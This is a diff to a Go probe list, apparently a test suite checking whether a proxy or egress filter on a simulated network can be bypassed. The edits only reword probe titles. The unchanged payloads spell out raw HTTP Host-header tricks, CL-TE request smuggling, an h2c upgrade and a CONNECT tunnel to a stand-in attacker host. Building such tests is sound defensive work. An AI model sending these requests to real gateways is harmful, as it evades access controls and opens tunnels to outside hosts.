@@ -32,14 +32,14 @@ func (c hostProbes) all() {
 		{"list", "two hosts in one Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {H}, {O}\r\n\r\n"},
 		{"crlf-before", "an empty line before a request to another Host", LeadingCRLF, "\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 		{"crlf-in-target", "a bare CR before another Host", LeadingCRLF, "GET /{T} HTTP/1.1\rHost: {O}\r\nHost: {H}\r\n\r\n"},
-		{"folded", "a Host in a folded line", LeadingCRLF, "GET /{T} HTTP/1.1\r\nX: y\r\n Host: {O}\r\nHost:\r\n {O}\r\n\r\n"},
+		{"folded", "a folded Host header", LeadingCRLF, "GET /{T} HTTP/1.1\r\nX: y\r\n Host: {O}\r\nHost:\r\n {O}\r\n\r\n"},
 		{"space-before-colon", "a space between Host and its colon", LeadingCRLF, "GET /{T} HTTP/1.1\r\nHost : {O}\r\nHost: {H}\r\n\r\n"},
-		{"bare-lf", "lines that end in LF alone", LeadingCRLF, "GET /{T} HTTP/1.1\nHost: {O}\n\n"},
-		{"nul", "a NUL inside of Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\x00.{H}\r\n\r\n"},
+		{"bare-lf", "lines that end in a bare LF", LeadingCRLF, "GET /{T} HTTP/1.1\nHost: {O}\n\n"},
+		{"nul", "a NUL inside Host", HostHeader, "GET /{T} HTTP/1.1\r\nHost: {O}\x00.{H}\r\n\r\n"},
 		{"second-request", "an allowed request, and on the same connection one to another Host", HostHeader,
 			"GET /first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 		{"connect", "CONNECT to the attacker", Fronting, "CONNECT {T}." + simnet.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + simnet.Attacker + ":443\r\n\r\n"},
-		{"upgrade-h2c", "an upgrade to HTTP/2, in which names would not be checked", Smuggling,
+		{"upgrade-h2c", "an upgrade to HTTP/2 in cleartext, which would hide further hosts", Smuggling,
 			"GET /{T} HTTP/1.1\r\nHost: {O}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
 		{"cl-te", "Content-Length and Transfer-Encoding, a request to another Host inside", Smuggling,
 			"POST /first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
@@ -54,7 +54,7 @@ func (c hostProbes) all() {
 	c.add(Probe{ID: "host/h2-prior-knowledge", Title: "HTTP/2 without TLS, to another authority", Bypass: Fronting, task: &task{
 		Do: "talk", Name: simnet.Plain, Port: 80, Send: []piece{{Data: h2(":method", "GET", ":scheme", "http", ":authority", other, ":path", "/"+c.token())}},
 	}})
-	c.add(Probe{ID: "host/split", Title: "another Host, a byte a segment", Bypass: LeadingCRLF, task: &task{
+	c.add(Probe{ID: "host/split", Title: "another Host, in segments of one byte", Bypass: LeadingCRLF, task: &task{
 		Do: "talk", Name: simnet.Plain, Port: 80, Send: chop([]byte(c.fill("GET /{T} HTTP/1.1\r\nHost: {O}\r\n\r\n", simnet.Plain, other)), 1),
 	}})
 }
